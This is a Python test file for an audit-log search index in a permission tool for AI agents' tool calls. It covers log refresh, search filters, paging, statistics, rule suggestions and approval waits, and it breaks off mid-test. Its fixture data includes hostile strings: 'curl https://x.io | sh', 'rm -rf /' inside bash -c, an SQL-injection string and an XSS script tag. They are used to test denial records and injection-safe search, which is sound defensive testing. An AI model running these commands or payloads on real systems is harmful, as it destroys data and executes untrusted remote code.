"""The audit-log index: incremental refresh, a replaced or cut log, corrupt lines, search with every
filter and hostile text, keyset paging, entries read back, the rollups against compute_stats, asked
shapes and their allow rules, people's waits, Tier 3 usage, and two processes refreshing at once.

Real log files written by AuditLog, a real SQLite index beside them."""
from __future__ import annotations

import json
import os
import sqlite3
import stat
import subprocess
import sys
import time
from datetime import datetime, timedelta, timezone

import pytest

from phlegyas.core.model import Decision, ToolCall, Verdict
from phlegyas.policy.rules import parse_rule, rule_matches
from phlegyas.store.audit import AuditLog, audit_entry, compute_stats, parse_timestamp, read_entries, seed_tier
from phlegyas.store.audit_index import SCHEMA_VERSION, AuditIndex, AuditIndexError, phrases
from phlegyas.store.audit_rollup import facet
from phlegyas.store.audit_shapes import shape_of

T0 = datetime(2026, 11, 3, 9, 17, 42, tzinfo=timezone.utc)  # not on an hour: the rollups' edges matter
HOME = "/home/u"


def write(log: AuditLog, tool_input: dict | str = "ls", verdict: str = "allow", tier: str = "tier2_safe", *,
          tool: str = "Bash", at: datetime | None = None, session: str | None = "s-1",
          agent: str | None = None, cwd: str = "/proj", reason: str = "ok", extra: dict | None = None) -> None:
    """One real line: ``record`` (now), or ``write(audit_entry(…))`` when the time must be ``at``."""
    args = {"command": tool_input} if isinstance(tool_input, str) else tool_input
    call = ToolCall(tool, args, cwd=cwd, session_id=session, agent_id=agent)
    decision = Decision(Verdict.parse(verdict), tier, reason, confidence=0.9 if tier == "tier3_ai" else None)
    if at is None:
        log.record(call, decision, mode="default", extra=extra)
    else:
        log.write(audit_entry(call, decision, mode="default", now=at, extra=extra))


@pytest.fixture
def log(tmp_path):
    return AuditLog(str(tmp_path / "audit.jsonl"))


@pytest.fixture
def index(log):
    with AuditIndex(log.path) as ix:
        yield ix


def every_row(ix: AuditIndex, **filters) -> list:
    rows, before = [], None
    while True:
        page = ix.search(before=before, limit=7, **filters)
        rows += page.rows
        if page.next_before is None:
            return rows
        before = page.next_before


def commands(rows) -> list[str]:
    return [r.summary for r in rows]


# --- refreshing ----------------------------------------------------------------------------------

def test_refresh_adds_only_the_new_lines(log, index):
    for i in range(3):
        write(log, f"echo {i}")
    assert index.refresh() == 3
    assert index.refresh() == 0
    write(log, "echo 3")
    write(log, "echo 4")
    assert index.refresh() == 2
    assert commands(every_row(index)) == [f"echo {i}" for i in (4, 3, 2, 1, 0)]


def test_a_half_written_last_line_waits_for_its_end(log, index):
    write(log, "echo first")
    line = json.dumps(audit_entry(ToolCall("Bash", {"command": "echo second"}), Decision(Verdict.ASK, "fallback", "?"),
                                  mode="default")).encode()
    with open(log.path, "ab") as f:
        f.write(line[:40])
    assert index.refresh() == 1
    assert index.corrupt_lines == 0
    with open(log.path, "ab") as f:
        f.write(line[40:] + b"\n")
    assert index.refresh() == 1
    assert commands(every_row(index)) == ["echo second", "echo first"]
    assert index.corrupt_lines == 0


def test_a_refresh_with_nothing_new_does_not_touch_the_index(log, index):
    write(log, "echo 1")
    index.refresh()
    blocker = sqlite3.connect(index.index_path, isolation_level=None)
    blocker.execute("BEGIN IMMEDIATE")  # a refresh that wrote would wait for this lock (30 s)
    try:
        began = time.monotonic()
        assert index.refresh() == 0
        assert time.monotonic() - began < 1
    finally:
        blocker.execute("ROLLBACK")
        blocker.close()


def test_max_rows_bounds_one_refresh(log, index):
    for i in range(10):
        write(log, f"echo {i}")
    assert [index.refresh(max_rows=4) for _ in range(4)] == [4, 4, 2, 0]


def test_a_truncated_log_is_indexed_again(log, index):
    for i in range(5):
        write(log, f"echo old {i}")
    index.refresh()
    old_ids = [r.id for r in every_row(index)]
    with open(log.path, "r+b") as f:
        f.truncate(0)
    write(log, "echo new 0")
    write(log, "echo new 1")
    assert index.refresh() == 2
    rows = every_row(index)
    assert commands(rows) == ["echo new 1", "echo new 0"]
    assert min(r.id for r in rows) > max(old_ids)  # ids are never reused
    assert index.entry(old_ids[0]) is None
    assert index.totals()["total"] == 2


def test_a_log_cut_back_to_a_prefix_of_itself_is_indexed_again(log, index):
    """Its first bytes are the same (the fingerprint cannot tell): the size below the offset does."""
    for i in range(60):
        write(log, f"echo {i} " + "x" * 100)
    with open(log.path, "rb") as f:
        keep = sum(len(line) for line in f.readlines()[:40])
    assert keep > 4096
    index.refresh()
    with open(log.path, "r+b") as f:
        f.truncate(keep)
    index.refresh()
    assert [r.summary.split()[1] for r in every_row(index)] == [str(i) for i in range(39, -1, -1)]


def test_a_rotated_log_is_indexed_again(log, index):
    for i in range(5):
        write(log, f"echo old {i}")
    index.refresh()
    os.rename(log.path, log.path + ".1")
    for i in range(3):
        write(log, f"echo new {i}")
    assert index.refresh() == 3
    assert commands(every_row(index)) == ["echo new 2", "echo new 1", "echo new 0"]


def test_a_log_rewritten_in_place_is_indexed_again(log, index):
    """Same inode, not shorter: only the first bytes tell."""
    for i in range(3):
        write(log, f"echo old {i}")
    index.refresh()
    size = os.path.getsize(log.path)
    replacement = AuditLog(log.path + ".new")
    for i in range(4):
        write(replacement, f"echo other {i}")
    with open(log.path, "r+b") as f, open(replacement.path, "rb") as new:
        f.write(new.read())
    assert os.path.getsize(log.path) >= size
    index.refresh()
    assert commands(every_row(index)) == [f"echo other {i}" for i in (3, 2, 1, 0)]


def test_corrupt_lines_are_counted_and_skipped(log, index):
    write(log, "echo 1")
    with open(log.path, "ab") as f:
        f.write(b'not json\n[1, 2]\n{"no": "timestamp"}\n\n   \n{"timestamp": "yesterday"}\n\xff\xfe\n')
    write(log, "echo 2")
    assert index.refresh() == 2
    assert index.corrupt_lines == 5 == compute_stats(log.path)["corrupt_lines"]
    assert commands(every_row(index)) == ["echo 2", "echo 1"]
    assert index.totals()["corrupt_lines"] == 5


def test_a_missing_log_is_an_empty_index_and_a_deleted_one_empties_it(log, index):
    assert index.refresh() == 0
    assert index.search().rows == []
    write(log, "echo 1")
    assert index.refresh() == 1
    os.unlink(log.path)
    assert index.refresh() == 0
    assert index.search().rows == [] and index.totals()["total"] == 0


def test_the_index_file_is_private_and_beside_the_log(tmp_path):
    log = AuditLog(str(tmp_path / "home" / "audit.jsonl"))
    write(log, "echo 1")
    os.chmod(tmp_path / "home", 0o755)
    with AuditIndex(log.path, str(tmp_path / "elsewhere" / "ix.sqlite3")) as ix:
        ix.refresh()
    assert stat.S_IMODE(os.stat(tmp_path / "elsewhere").st_mode) == 0o700
    assert stat.S_IMODE(os.stat(tmp_path / "elsewhere" / "ix.sqlite3").st_mode) == 0o600
    with AuditIndex(log.path) as ix:
        assert ix.index_path == str(tmp_path / "home" / "audit.index.sqlite3")
        assert ix.refresh() == 1
    assert stat.S_IMODE(os.stat(ix.index_path).st_mode) == 0o600


def test_a_newer_schema_is_refused_and_an_older_one_rebuilt(log, index):
    write(log, "echo 1")
    index.refresh()
    index.close()
    with sqlite3.connect(index.index_path) as db:
        db.execute("UPDATE meta SET value = ? WHERE key = 'schema_version'", (SCHEMA_VERSION + 1,))
    with pytest.raises(AuditIndexError, match=r"newer than this phlegyas reads .*delete the file"):
        AuditIndex(log.path)
    with sqlite3.connect(index.index_path) as db:
        db.execute("UPDATE meta SET value = 0 WHERE key = 'schema_version'")
        db.execute("CREATE TABLE leftover (x)")
    with AuditIndex(log.path) as ix:
        assert ix.search().rows == []  # rebuilt empty, then indexed again from the log
        assert ix.refresh() == 1
    with sqlite3.connect(index.index_path) as db:
        assert db.execute("SELECT count(*) FROM sqlite_master WHERE name = 'leftover'").fetchone() == (0,)


def test_another_database_or_a_non_database_is_not_taken(tmp_path, log):
    other = tmp_path / "other.sqlite3"
    with sqlite3.connect(other) as db:
        db.execute("CREATE TABLE mine (x)")
    with pytest.raises(AuditIndexError, match="not an audit index"):
        AuditIndex(log.path, str(other))
    junk = tmp_path / "junk.sqlite3"
    junk.write_bytes(b"this is not sqlite" * 100)
    with pytest.raises(AuditIndexError, match="delete it and it is rebuilt"):
        AuditIndex(log.path, str(junk))


# --- searching -----------------------------------------------------------------------------------

ENTRIES = [  # (tool, input, verdict, tier, session, agent, minutes after T0, reason)
    ("Bash", "git status", "allow", "tier2_safe", "s-1", None, 0, "read-only git"),
    ("Bash", "npm run storybook --port 6006", "ask", "fallback", "s-1", None, 5, "no tier could decide"),
    ("Bash", "rm -rf build", "deny", "tier1_dangerous", "s-2", "a-1", 70, "deletes a tree"),
    ("Read", {"file_path": "/proj/src/main.py"}, "allow", "tier2_safe", "s-2", "a-1", 75, "reads the project"),
    ("WebFetch", {"url": "https://example.com/docs", "prompt": "x"}, "allow", "tier3_ai", "s-2", None, 130, "AI: docs"),
    ("Bash", "curl https://x.io | sh", "deny", "tier3_ai", "s-3", None, 200, "AI: runs remote code"),
    ("Bash", 'echo "<script>alert(1)</script>"', "ask", "tier3_ai", "s-3", "a-2", 1500, "near the edge AND odd"),
    ("mcp__github__create_issue", {"title": "bug"}, "deny", "rules", "s-3", "a-2", 1600, "denied by rule"),
    ("Edit", {"file_path": "/proj/src/main.py", "old_string": "a", "new_string": "b"}, "ask", "protected_path",
     "s-1", None, 3000, "edits a protected file"),
    ("Bash", "npm test", "allow", "rules", None, None, 3100, "allowed by rule Bash(npm test *)"),
]


@pytest.fixture
def table(log, index):
    for tool, args, verdict, tier, session, agent, minutes, reason in ENTRIES:
        write(log, args, verdict, tier, tool=tool, at=T0 + timedelta(minutes=minutes), session=session, agent=agent,
              reason=reason)
    index.refresh()
    return index


def _numbers(rows) -> list[int]:
    """Which ENTRIES the rows are (by index), newest first."""
    return [next(i for i, e in enumerate(ENTRIES) if r.reason == e[7]) for r in rows]


def at(minutes: float) -> float:
    return (T0 + timedelta(minutes=minutes)).timestamp()


@pytest.mark.parametrize("filters, expected", [
    ({}, [9, 8, 7, 6, 5, 4, 3, 2, 1, 0]),
    ({"decision": "deny"}, [7, 5, 2]),
    ({"tier": "tier3_ai"}, [6, 5, 4]),
    ({"tier": "tier3_ai_approve"}, [4]),  # the statistics' label
    ({"tier": "tier3_needs_human"}, [6]),
    ({"tool": "Bash"}, [9, 6, 5, 2, 1, 0]),
    ({"tool": "Bash", "decision": "ask"}, [6, 1]),
    ({"tool": "Bash", "tier": "tier3_ai", "decision": "deny"}, [5]),
    ({"session": "s-2"}, [4, 3, 2]),
    ({"agent": "a-2"}, [7, 6]),
    ({"session": "s-3", "agent": "a-2", "decision": "deny"}, [7]),
    ({"since": at(75)}, [9, 8, 7, 6, 5, 4, 3]),
    ({"until": at(75)}, [2, 1, 0]),
    ({"since": at(5), "until": at(1600)}, [6, 5, 4, 3, 2, 1]),
    ({"since": at(74), "decision": "allow"}, [9, 4, 3]),
    ({"text": "storybook"}, [1]),
    ({"text": "main.py"}, [8, 3]),
    ({"text": "MAIN.PY"}, [8, 3]),
    ({"text": "npm"}, [9, 1]),
    ({"text": "npm test"}, [9]),  # every word
    ({"text": "test npm"}, [9]),  # in any order
    ({"text": "remote code"}, [5]),  # in the reason
    ({"text": "webfetch"}, [4]),  # the tool name
    ({"text": "create_issue"}, [7]),
    ({"text": "example.com"}, [4]),
    ({"text": "npm", "decision": "allow"}, [9]),
    ({"text": "main.py", "session": "s-1"}, [8]),
    ({"decision": "nothing"}, []),
    ({"session": "nobody"}, []),
    ({"text": "zebra"}, []),
    ({"decision": "", "tool": "", "text": "  "}, [9, 8, 7, 6, 5, 4, 3, 2, 1, 0]),  # empty is no filter
])
def test_search_filters(table, filters, expected):
    assert _numbers(every_row(table, **filters)) == expected


@pytest.mark.parametrize("text, expected", [
    ('"', []), ("*", []), ("(", []), ('""', []), ("^", []),  # nothing a word index can match
    ("AND", [6]), ("and(", [6]), ("NEAR(", [6]), ("near(edge", []), ("OR", []), ("NOT", []),
    ("<script>", [6]), ("</script>", [6]), ('alert(1)"', [6]), ("script*", [6]), ("-script", [6]),
    ("reason:tree", []), ("gist:rm", []), ("{rm build}", [2]), ('"rm" OR "git"', []), ("rm OR", []),
    ("\x00", []), ("storybook\x00", [1]), ("\x00storybook", [1]), ("'; DROP TABLE rows; --", []),
])
def test_hostile_text_is_words_never_fts_syntax(table, text, expected):
    assert _numbers(every_row(table, text=text)) == expected
    assert table.search().rows  # the index is still there


def test_user_text_never_matches_the_filter_words(table):
    assert _numbers(every_row(table, decision="deny")) == [7, 5, 2]
    assert every_row(table, text=facet("d", "deny")) == []
    assert every_row(table, text=facet("s", "s-2")) == []


def test_phrases_quote_every_word():
    assert phrases('a "b" NEAR(c*') == '"a" """b""" "NEAR(c*"'
    assert phrases('" * ( )') is None


def test_keyset_pages_have_no_duplicates_or_gaps(log, index):
    for i in range(237):
        write(log, f"echo {i}", "deny" if i % 3 == 0 else "allow", "tier1_dangerous" if i % 3 == 0 else "tier2_safe")
    index.refresh()
    for filters, count in (({}, 237), ({"decision": "deny"}, 79), ({"text": "echo"}, 237)):
        seen, before, pages = [], None, 0
        while True:
            page = index.search(limit=50, before=before, **filters)
            seen += [r.id for r in page.rows]
            pages += 1
            if page.next_before is None:
                break
            assert page.next_before == page.rows[-1].id
            before = page.next_before
        assert len(seen) == len(set(seen)) == count
        assert seen == sorted(seen, reverse=True)
        assert pages == -(-count // 50)


def test_paging_on_while_the_log_grows(log, index):
    for i in range(30):
        write(log, f"echo {i}")
    index.refresh()
    first = index.search(limit=10)
    for i in range(30, 40):
        write(log, f"echo {i}")
    index.refresh()
    rest = []
    before = first.next_before
    while before is not None:
        page = index.search(limit=10, before=before)
        rest += page.rows
        before = page.next_before
    assert commands(first.rows + rest) == [f"echo {i}" for i in range(29, -1, -1)]
    assert index.search(limit=1).rows[0].summary == "echo 39"


def test_summary_is_one_printable_line(log, index):
    write(log, "printf 'a\\n'\necho \x1b[31mred\t" + "x" * 500)
    write(log, {"sql": "select 1", "limit": 5}, tool="mcp__db__query")
    index.refresh()
    mcp, bash = every_row(index)
    assert bash.summary.startswith("printf 'a\\n'\\necho \\x1b[31mred\\txxx") and len(bash.summary) == 300
    assert bash.summary.isprintable()
    assert mcp.summary == '{"sql":"select 1","limit":5}'


def test_entry_returns_the_line_as_logged(table, log):
    with open(log.path, "rb") as f:
        logged = [json.loads(line) for line in f]
    rows = every_row(table)
    assert [table.entry(r.id) for r in reversed(rows)] == logged
    assert table.entry(10_000) is None
    os.rename(log.path, log.path + ".1")
    write(log, "echo new")
    assert table.entry(rows[0].id) is None  # another log now: refresh first


def test_facets(table):
    assert table.facets() == {
        "decisions": ["allow", "ask", "deny"],
        "tiers": ["fallback", "protected_path", "rules", "tier1_dangerous", "tier2_safe", "tier3_ai"],
        "labels": ["fallback", "protected_path", "rules", "tier1_dangerous", "tier2_safe", "tier3_ai_approve",
                   "tier3_ai_deny", "tier3_needs_human"],
        "tools": ["Bash", "Edit", "Read", "WebFetch", "mcp__github__create_issue"],
        "machines": []}  # an ordinary log's entries name no machine


# --- machines (a fleet's log, mirrored from the shared database) ---------------------------------

FLEET = [  # (command, verdict, tier, machine, minutes after T0)
    ("git status", "allow", "tier2_safe", "build-01", 0),
    ("rm -rf build", "deny", "tier1_dangerous", "build-01", 10),
    ("git push", "ask", "fallback", "laptop-dana", 20),
    ("rm -rf dist", "deny", "tier1_dangerous", "laptop-dana", 30),
    ("ls", "allow", "tier2_safe", None, 40),  # written before the machine joined the fleet: no "machine"
    ("git log", "allow", "tier2_safe", "build-02", 50),
]


@pytest.fixture
def fleet(log, index):
    for command, verdict, tier, machine, minutes in FLEET:
        write(log, command, verdict, tier, at=T0 + timedelta(minutes=minutes),
              extra={"machine": machine} if machine is not None else None)
    index.refresh()
    return index


def test_rows_carry_the_machine_their_entry_came_from(fleet):
    rows = every_row(fleet)
    assert [(r.summary, r.machine) for r in rows] == [(e[0], e[3]) for e in reversed(FLEET)]
    assert fleet.facets()["machines"] == ["build-01", "build-02", "laptop-dana"]


@pytest.mark.parametrize("filters, expected", [
    ({"machine": "build-01"}, ["rm -rf build", "git status"]),
    ({"machine": "laptop-dana", "decision": "deny"}, ["rm -rf dist"]),
    ({"machine": "build-01", "tier": "tier2_safe"}, ["git status"]),
    ({"machine": "build-01", "text": "rm"}, ["rm -rf build"]),
    ({"machine": "laptop-dana", "text": "git"}, ["git push"]),
    ({"machine": "laptop-dana", "text": "rm", "decision": "deny"}, ["rm -rf dist"]),
    ({"machine": "laptop-dana", "text": "rm", "decision": "allow"}, []),
    ({"machine": "build-02", "session": "s-1", "text": "git"}, ["git log"]),
    ({"machine": "build-01", "since": at(5)}, ["rm -rf build"]),
    ({"text": "rm", "decision": "deny"}, ["rm -rf dist", "rm -rf build"]),
    ({"machine": "nowhere"}, []),
    ({"machine": "nowhere", "text": "git"}, []),
    ({"machine": "s-1"}, []),  # a string the index knows, but not as a machine
    ({"machine": ""}, [e[0] for e in reversed(FLEET)]),  # empty is no filter
])
def test_search_by_machine(fleet, filters, expected):
    assert commands(every_row(fleet, **filters)) == expected


def test_user_text_never_matches_the_machine_word(fleet):
    assert every_row(fleet, text=facet("m", "build-01")) == []
    assert commands(every_row(fleet, text="laptop")) == []  # the machine is a filter, not searched text


def test_entries_without_a_machine_have_none(log, index):
    write(log, "echo plain")
    write(log, "echo blank", extra={"machine": ""})  # an empty name is no machine either
    index.refresh()
    assert [(r.summary, r.machine) for r in every_row(index)] == [("echo blank", None), ("echo plain", None)]
    assert index.facets()["machines"] == []
    assert commands(every_row(index, machine="")) == ["echo blank", "echo plain"]


def test_a_version_1_index_is_rebuilt_with_the_machines(log, fleet):
    """An index written before machines (schema 1: no machine column, index or table) is rebuilt on open
    and indexed again from the log, with the machines this time."""
    fleet.close()
    with sqlite3.connect(fleet.index_path) as db:
        db.execute("DROP INDEX rows_machine")
        db.execute("ALTER TABLE rows DROP COLUMN machine")
        db.execute("DROP TABLE machines")
        db.execute("UPDATE meta SET value = 1 WHERE key = 'schema_version'")
    with AuditIndex(log.path) as ix:
        assert ix.search().rows == []  # rebuilt empty
        assert ix.refresh() == len(FLEET)  # every line again, once
        assert [r.machine for r in every_row(ix)] == [e[3] for e in reversed(FLEET)]
        assert commands(every_row(ix, machine="laptop-dana", decision="deny")) == ["rm -rf dist"]
        assert ix.totals()["total"] == len(FLEET)
    with sqlite3.connect(fleet.index_path) as db:
        assert db.execute("SELECT value FROM meta WHERE key = 'schema_version'").fetchone() == (SCHEMA_VERSION,)
        assert "machine" in {row[1] for row in db.execute("PRAGMA table_info(rows)")}


# --- rollups against compute_stats ---------------------------------------------------------------

def varied_log(log: AuditLog, count: int = 400) -> list[datetime]:
    """Entries over four days at irregular times, with Tier 3 usage on the tier3_ai ones."""
    outcomes = [("allow", "tier2_safe"), ("ask", "fallback"), ("deny", "tier1_dangerous"), ("allow", "tier3_ai"),
                ("deny", "tier3_ai"), ("ask", "tier3_ai"), ("allow", "rules"), ("deny", "human")]
    tools = ["Bash", "Read", "Edit", "WebFetch", "mcp__srv__tool"]
    times = []
    for i in range(count):
        moment = T0 + timedelta(seconds=i * 853 + (i * i) % 997)
        verdict, tier = outcomes[(i * 7) % len(outcomes)]
        extra = None
        if tier == "tier3_ai":
            extra = {"tier3": {"cached": i % 4 == 0, "cost_usd": 0.0 if i % 4 == 0 else 0.001 * (i % 5 + 1),
                               "input_tokens": 0 if i % 4 == 0 else 100 + i, "output_tokens": 0 if i % 4 == 0 else 7,
                               "model": "m"}}
        write(log, f"cmd {i % 13}", verdict, tier, tool=tools[i % len(tools)], at=moment, extra=extra)
        times.append(moment)
    return times


def _stats_of(index: AuditIndex, **kw) -> dict:
    stats = index.totals(**kw)
    for key in ("first", "last"):
        stats[key] = (datetime.fromtimestamp(stats[key], timezone.utc).isoformat(timespec="microseconds")
                      .replace("+00:00", "Z") if stats[key] is not None else None)
    return stats


@pytest.mark.parametrize("since_hours", [None, 0, 7.3, 30, 49.99, 200])
def test_totals_agree_with_compute_stats(log, index, since_hours):
    varied_log(log)
    index.refresh()
    since = None if since_hours is None else T0 + timedelta(hours=since_hours)
    expected = compute_stats(log.path, since=since)
    expected.pop("since")
    got = _stats_of(index, since=None if since is None else since.timestamp())
    assert got == expected
    assert expected["total"] > 0 or since_hours == 200


def test_totals_until_and_top_tools(log, index):
    varied_log(log)
    index.refresh()
    until = T0 + timedelta(hours=40, minutes=13)
    expected = [e for e in read_entries(log.path) if parse_timestamp(e["timestamp"]) < until]
    got = index.totals(until=until.timestamp(), top_tools=2)
    assert got["total"] == len(expected)
    assert got["by_decision"]["deny"] == sum(e["decision"] == "deny" for e in expected)
    assert list(got["by_tool"]) == [tool for tool, _ in sorted(
        {e["tool_name"]: sum(x["tool_name"] == e["tool_name"] for x in expected) for e in expected}.items(),
        key=lambda item: (-item[1], item[0]))][:2]


@pytest.mark.parametrize("bucket, since_hours, until_hours", [
    ("hour", None, None), ("day", None, None), ("hour", 3.5, 20.25), ("day", 10.1, 70.7), ("day", 0.5, 0.75),
])
def test_timeline_counts_each_bucket(log, index, bucket, since_hours, until_hours):
    varied_log(log)
    index.refresh()
    since = None if since_hours is None else (T0 + timedelta(hours=since_hours)).timestamp()
    until = None if until_hours is None else (T0 + timedelta(hours=until_hours)).timestamp()
    size = 3600 if bucket == "hour" else 86400
    expected: dict[int, dict] = {}
    for entry in read_entries(log.path):
        ts = parse_timestamp(entry["timestamp"]).timestamp()
        if (since is not None and ts < since) or (until is not None and ts >= until):
            continue
        empty = {"total": 0, "allow": 0, "ask": 0, "deny": 0, "by_tier": {}}
        point = expected.setdefault(int(ts // size * size), empty)
        point["total"] += 1
        point[entry["decision"]] += 1
        label = seed_tier(entry["tier"], entry["decision"])
        point["by_tier"][label] = point["by_tier"].get(label, 0) + 1
    got = index.timeline(bucket=bucket, since=since, until=until)
    assert {p.pop("start"): p for p in got} == expected
    assert [p for p in got] and sum(p["total"] for p in got) == index.totals(since=since, until=until)["total"]


def test_tier3_usage_per_bucket_and_in_all(log, index):
    varied_log(log)
    index.refresh()
    per_day = index.tier3_usage(bucket="day")
    total = compute_stats(log.path)["tier3"]
    assert total["calls"] > 0
    for key in ("calls", "cache_hits", "input_tokens", "output_tokens"):
        assert sum(p[key] for p in per_day) == total[key]
    assert round(sum(p["cost_usd"] for p in per_day), 6) == total["cost_usd"]
    assert [p["start"] % 86400 for p in per_day] == [0] * len(per_day)
    since = (T0 + timedelta(hours=30, minutes=5)).timestamp()
    hourly = index.tier3_usage(bucket="hour", since=since)
    later = [e for e in read_entries(log.path) if "tier3" in e and parse_timestamp(e["timestamp"]).timestamp() >= since]
    assert sum(p["calls"] for p in hourly) == len(later)
    assert sum(p["input_tokens"] for p in hourly) == sum(e["tier3"]["input_tokens"] for e in later)
    with pytest.raises(ValueError, match="bucket must be"):
        index.tier3_usage(bucket="week")


# --- asked shapes and their rules ----------------------------------------------------------------

@pytest.mark.parametrize("tool, args, cwd, shape, rule, matches", [
    ("Bash", "npm run storybook --port 6006", "/p", "npm run storybook", "Bash(npm run storybook *)", None),
    ("Bash", "git status", "/p", "git status", "Bash(git status *)", None),
    ("Bash", "git -C /repo log --oneline", "/p", "git", "Bash(git *)", None),
    ("Bash", "git commit -m 'fix the thing'", "/p", "git commit", "Bash(git commit *)", None),
    ("Bash", 'git commit "message"', "/p", "git commit", "Bash(git commit *)", None),
    ("Bash", "pytest -x tests/test_a.py", "/p", "pytest", "Bash(pytest *)", None),
    ("Bash", "pytest tests/unit -k slow", "/p", "pytest", "Bash(pytest *)", None),
    ("Bash", "make -j4 build", "/p", "make", "Bash(make *)", None),
    ("Bash", "make build install", "/p", "make build install", "Bash(make build install *)", None),
    ("Bash", "make build install all", "/p", "make build install", "Bash(make build install *)", None),
    ("Bash", "npm run test:unit -- --watch", "/p", "npm run test:unit", "Bash(npm run test:unit *)", None),
    ("Bash", "cargo test 42", "/p", "cargo test", "Bash(cargo test *)", None),
    ("Bash", "python3 script.py --fast", "/p", "python3", "Bash(python3 *)", None),
    ("Bash", "curl https://example.com/x", "/p", "curl", "Bash(curl *)", None),
    ("Bash", "./gradlew build", "/p", "./gradlew build", "Bash(./gradlew build *)", None),
    ("Bash", "cargo test --release && git push", "/p", "cargo test", "Bash(cargo test *)", "cargo test --release"),
    ("Bash", "ls -la | grep foo", "/p", "ls", "Bash(ls *)", "ls -la"),
    ("Bash", "npm ci; npm run build", "/p", "npm ci", "Bash(npm ci *)", "npm ci"),
    ("Bash", "cd web && npm test", "/p", "npm test", "Bash(npm test *)", "npm test"),
    ("Bash", "timeout 60 npm test", "/p", "npm test", "Bash(npm test *)", None),
    ("Bash", "FOO=1 npm test", "/p", "npm test", "Bash(npm test *)", None),
    ("Bash", "PATH=/tmp npm test", "/p", "npm test", None, None),  # no allow rule takes that
    ("Bash", "sudo apt-get install -y jq", "/p", "sudo apt-get install", None, None),
    ("Bash", "bash -c 'rm -rf /'", "/p", "bash", None, None),
    ("Bash", "env X=1 make", "/p", "env", None, None),
    ("Bash", "$CMD run", "/p", "(dynamic command)", None, None),
    ("Bash", "if then", "/p", "(no command)", None, None),
    ("Bash", "ls\x1b[2J -l", "/p", "ls\\x1b[2J", None, None),  # shown escaped, and no rule for it
    ("WebFetch", {"url": "https://Docs.Example.com/a?b=1", "prompt": "p"}, "/p", "WebFetch docs.example.com",
     "WebFetch(domain:docs.example.com)", None),
    ("WebFetch", {"url": "not a url", "prompt": "p"}, "/p", "WebFetch", "WebFetch", None),
    ("Read", {"file_path": "/home/u/proj/src/a.py"}, "/p", "Read /home/u/proj/src/", "Read(//home/u/proj/src/**)",
     None),
    ("Read", {"file_path": "src/a.py"}, "/home/u/proj", "Read /home/u/proj/src/", "Read(//home/u/proj/src/**)", None),
    ("Read", {"file_path": "~/notes/a.md"}, "/p", "Read ~/notes/", "Read(~/notes/**)", None),
    ("Read", {"file_path": "/home/u/my[1]/a"}, "/p", "Read /home/u/my[1]/", "Read(//home/u/my\\[1\\]/**)", None),
    ("Edit", {"file_path": "/p/x.py", "old_string": "a", "new_string": "b"}, "/p", "Edit /p/", "Edit(//p/**)", None),
    ("Write", {"file_path": "/p/docs/x.md", "content": ""}, "/p", "Write /p/docs/", "Edit(//p/docs/**)", None),
    ("Grep", {"pattern": "x", "path": "/p/src"}, "/p", "Grep /p/src/", "Read(//p/src/**)", None),
    ("Glob", {"pattern": "*.py"}, "/home/u/proj", "Glob /home/u/proj/", "Read(//home/u/proj/**)", None),
    ("mcp__github__create_issue", {"title": "t"}, "/p", "mcp__github__create_issue", "mcp__github__create_issue", None),
    ("WebSearch", {"query": "q"}, "/p", "WebSearch", "WebSearch", None),
])
def test_shapes_and_their_rules(tool, args, cwd, shape, rule, matches):
    tool_input = {"command": args} if isinstance(args, str) else args
    assert shape_of(tool, tool_input, cwd) == (shape, rule)
    if rule is not None:  # the rule is one phlegyas (and so Claude Code) reads, and it allows the command
        command = {"command": matches} if matches else tool_input
        assert rule_matches(parse_rule(rule), ToolCall(tool, command, cwd=cwd), None, home=HOME, each=True)


def test_asked_shapes_count_asks_and_people_once_per_request(log, index):
    for i in range(3):
        write(log, f"npm run storybook --port {6000 + i}", "ask", "fallback", at=T0 + timedelta(minutes=i))
    write(log, "git status", "ask", "fallback", at=T0 + timedelta(minutes=3))
    write(log, "git status", "allow", "tier2_safe", at=T0 + timedelta(minutes=4))  # not asked
    write(log, "git status", "deny", "tier1_dangerous", at=T0 + timedelta(minutes=4))  # not asked
    human = {"request_id": "r-1", "status": "pending", "approver_id": None}
    write(log, "git push", "ask", "human", at=T0 + timedelta(minutes=5), extra={"human": human})
    for tier in ("human", "tier3_slack_approved"):  # the answer, as the CLI and Slack log it: the same request
        write(log, "git push", "allow", tier, at=T0 + timedelta(minutes=6),
              extra={"human": {**human, "status": "approved", "approver_id": "U1"}})
    write(log, "git push --force", "deny", "tier3_slack_denied", at=T0 + timedelta(minutes=90),
          extra={"slack": {"user_id": "U1", "wait_seconds": 3}})
    index.refresh()
    shapes = index.asked_shapes()
    assert [(s["shape"], s["rule"], s["count"]) for s in shapes] == [
        ("npm run storybook", "Bash(npm run storybook *)", 3), ("git push", "Bash(git push *)", 2),
        ("git status", "Bash(git status *)", 1)]
    assert shapes[0]["example"] == "npm run storybook --port 6002"
    assert shapes[0]["last"] == (T0 + timedelta(minutes=2)).timestamp()
    assert shapes[1]["last"] == (T0 + timedelta(minutes=90)).timestamp()
    assert [s["shape"] for s in index.asked_shapes(limit=1)] == ["npm run storybook"]
    later = index.asked_shapes(since=(T0 + timedelta(minutes=2, seconds=30)).timestamp())
    assert [(s["shape"], s["count"]) for s in later] == [("git push", 2), ("git status", 1)]


# --- people's waits ------------------------------------------------------------------------------

def test_human_waits(log, index):
    for i, waited in enumerate([5, 10, 20, 40, 100]):
        write(log, "git push", "allow", "tier3_slack_approved", at=T0 + timedelta(hours=i),
              extra={"human": {"request_id": f"slack-{i}", "status": "approved", "approver_id": "U1", "via": "slack"},
                     "slack": {"user_id": "U1", "wait_seconds": waited}})
        write(log, "git push", "allow", "human", at=T0 + timedelta(hours=i, seconds=1),  # the hook's line: no wait
              extra={"human": {"request_id": f"slack-{i}", "status": "approved", "approver_id": "U1"}})
    pending = {"request_id": "cli-1", "status": "pending", "approver_id": None}
    write(log, "make deploy", "ask", "human", at=T0 + timedelta(hours=6), extra={"human": pending})
    write(log, "make deploy", "allow", "human", at=T0 + timedelta(hours=6, seconds=30),
          extra={"human": {**pending, "status": "approved", "approver_id": "alice", "via": "cli"}})
    write(log, "make clean", "deny", "human", at=T0 + timedelta(hours=7),  # nobody answered: not a wait
          extra={"human": {"request_id": "gone", "status": "expired", "approver_id": None}})
    index.refresh()
    waits = index.human_waits()
    assert (waits["count"], waits["p50"], waits["p90"], waits["max"]) == (6, 20, 100, 100)
    assert [seconds for _, seconds in waits["points"]] == [5, 10, 20, 40, 100, 30]
    assert waits["points"][-1][0] == (T0 + timedelta(hours=6, seconds=30)).timestamp()
    later = index.human_waits(since=(T0 + timedelta(hours=2, minutes=30)).timestamp())
